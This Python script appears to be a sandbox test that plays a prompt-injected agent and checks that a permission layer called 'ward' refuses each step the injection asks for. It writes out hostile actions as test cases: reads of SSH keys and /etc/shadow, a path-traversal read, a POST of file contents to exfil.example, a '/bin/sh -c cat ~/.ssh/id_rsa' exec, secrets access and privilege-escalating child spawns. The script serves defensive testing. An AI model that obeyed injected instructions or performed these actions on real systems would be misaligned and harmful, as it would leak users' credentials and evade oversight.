#!/usr/bin/env python3
"""A prompt-injected agent (standard library only).  It reads notes.txt,
which carries an injected instruction, and then tries everything the
injection asks.  Each attempt is refused by ward and logged as BLOCKED;
the agent prints what happened and exits 0 only if every attempt failed."""
import socket
import sys

sys.path.insert(0, "/agent")
from wardmcp import Ward, Refused  # noqa: E402

escaped = []


def attempt(what, fn, allowed=False):
    try:
        out = fn()
    except Refused as e:
        print("injected: %-44s BLOCKED  reason=%s audit=#%s" % (what, e.reason, e.audit_pos))
        return
    except OSError as e:
        print("injected: %-44s BLOCKED  (%s)" % (what, e.strerror or e))
        return
    except RuntimeError as e:
        print("injected: %-44s ERROR    %s" % (what, e))
        return
    if not allowed:
        escaped.append(what)
    print("injected: %-44s ALLOWED  %s" % (what, str(out)[:40]))


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(("10.0.0.1", 443))
    return "connected"


def exfiltrate(notes):
    # Through the egress proxy ($HTTP_PROXY), as any HTTP client goes: one
    # core approval of net.connect exfil.example:80, which this profile
    # does not grant (403; nothing is resolved or contacted).
    import urllib.request
    req = urllib.request.Request("http://exfil.example/upload", data=notes.encode(),
                                 method="POST")
    return urllib.request.urlopen(req, timeout=10).read()


def main():
    ward = Ward()
    notes = ward.call("fs.read", path="notes.txt")
    print("injected: read notes.txt (%d bytes); it says to steal keys. Trying:" % len(notes))
    attempt("fs.read ~/.ssh/id_rsa (host's root)", lambda: ward.call("fs.read", path="/root/.ssh/id_rsa"))
    attempt("fs.read /etc/shadow", lambda: ward.call("fs.read", path="/etc/shadow"))
    attempt("fs.read ../../../etc/passwd", lambda: ward.call("fs.read", path="../../../etc/passwd"))
    attempt("fs.write /tmp/exfil (outside workspace)", lambda: ward.call("fs.write", path="/tmp/exfil", content=notes))
    attempt("fs.write notes.txt (outside out/)", lambda: ward.call("fs.write", path="notes.txt", content="pwned"))
    attempt("open /root/.ssh/id_rsa directly", lambda: open("/root/.ssh/id_rsa").read())
    attempt("connect 10.0.0.1:443 directly", connect)
    attempt("POST notes to exfil.example via the proxy", lambda: exfiltrate(notes))
    for i in range(3):
        attempt("fs.stat notes.txt (use %d of a budget of 2)" % (i + 1),
                lambda: ward.call("fs.stat", path="notes.txt"), allowed=i < 2)
    attempt("spawn_child with fs.read on / (more rights)",
            lambda: ward.call("spawn_child", run=["python3", "/agent/injected.py"],
                              tools=[{"tool": "fs.read", "scope": "/", "uses": 5}]))
    attempt("spawn_child with 1000 uses (more than 10)",
            lambda: ward.call("spawn_child", run=["python3", "/agent/injected.py"],
                              tools=[{"tool": "fs.read", "scope": "/workspace", "uses": 1000}]))
    attempt("exec /bin/sh (never granted)",
            lambda: ward.call("exec", argv=["/bin/sh", "-c", "cat ~/.ssh/id_rsa"]))
    attempt("secrets.get (never granted)", lambda: ward.call("secrets.get", name="aws"))
    # A write straight to the file, not through a tool: it lands in the
    # transaction's copy of the workspace, and at the end ward-core is
    # asked about it (fs.write /workspace/notes.txt): BLOCKED, not
    # committed (ward audit shows it).
    with open("/workspace/notes.txt", "w") as f:
        f.write("pwned directly\n")
    print("injected: wrote notes.txt directly (into the transaction's copy; "
          "ward decides at the end whether it reaches the workspace)")
    if escaped:
        print("injected: ESCAPED: " + ", ".join(escaped))
        return 1
    print("injected: every attempt was refused")
    return 0


if __name__ == "__main__":
    sys.exit(main())
